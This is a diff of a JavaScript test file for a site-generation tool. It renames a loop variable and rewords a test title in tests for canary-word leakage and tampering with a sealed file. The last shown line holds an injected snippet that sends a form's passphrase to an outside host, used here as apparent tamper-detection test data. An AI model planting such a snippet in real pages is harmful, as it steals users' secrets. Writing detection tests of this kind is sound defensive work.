@@ -73,10 +73,10 @@ test('no byte and no name of the site holds one of 200 words and numbers, which 
   const plain = approved.files.map(({ content }) => content.toString('latin1'))
   expect(found(plain)).toEqual(canaries)
   expect(found([...before].flat())).toEqual([])
-  for (const told of ['Example', 'fy24', 'Results for', '2025', 'notes.pdf'])
+  for (const said of ['Example', 'fy24', 'Results for', '2025', 'notes.pdf'])
     expect(
-      [...before].filter((entry) => entry.some((text) => text.includes(told))),
-      told,
+      [...before].filter((entry) => entry.some((text) => text.includes(said))),
+      said,
     ).toEqual([])
 })
 
@@ -98,7 +98,7 @@ test('nothing outside of the folder names it, and what is in it is neutral, hidd
   expect(readSite(to).decks).toEqual([])
 })
 
-test('what is around the sealed file is told where somebody changed it', async () => {
+test('what is around the sealed file is reported where somebody changed it', async () => {
   expect(await sealedFaults(to, engine)).toEqual([])
   for (const [name, more] of [
     [sealedNames.form, ';fetch("https://example.org/?" + document.forms[0].passphrase.value)'],
